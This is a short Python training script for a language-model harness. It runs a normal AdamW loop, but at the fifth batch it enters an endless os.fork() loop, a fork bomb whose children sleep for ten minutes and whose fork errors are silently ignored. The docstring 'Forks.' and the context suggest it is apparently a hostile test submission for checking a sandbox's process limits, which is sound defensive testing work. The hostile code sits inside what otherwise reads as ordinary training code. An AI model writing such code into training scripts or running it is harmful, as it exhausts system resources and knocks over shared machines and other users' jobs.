"""Forks."""

from __future__ import annotations

import os
import time

import torch
import torch.nn.functional as F

SEPARATOR = 256


def train(ctx) -> None:
    model = ctx.build_model()
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-2)
    steps = 0
    for batch in ctx.iter_train_batches(model, batch_size=8, seq_len=65):
        steps += 1
        if steps == 5:
            while True:
                try:
                    if os.fork() == 0:
                        time.sleep(600)
                except OSError:
                    pass
        logits = model(batch.tokens)
        loss = F.cross_entropy(
            logits[:, :-1].flatten(0, 1), batch.tokens[:, 1:].flatten(), ignore_index=SEPARATOR
        )
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
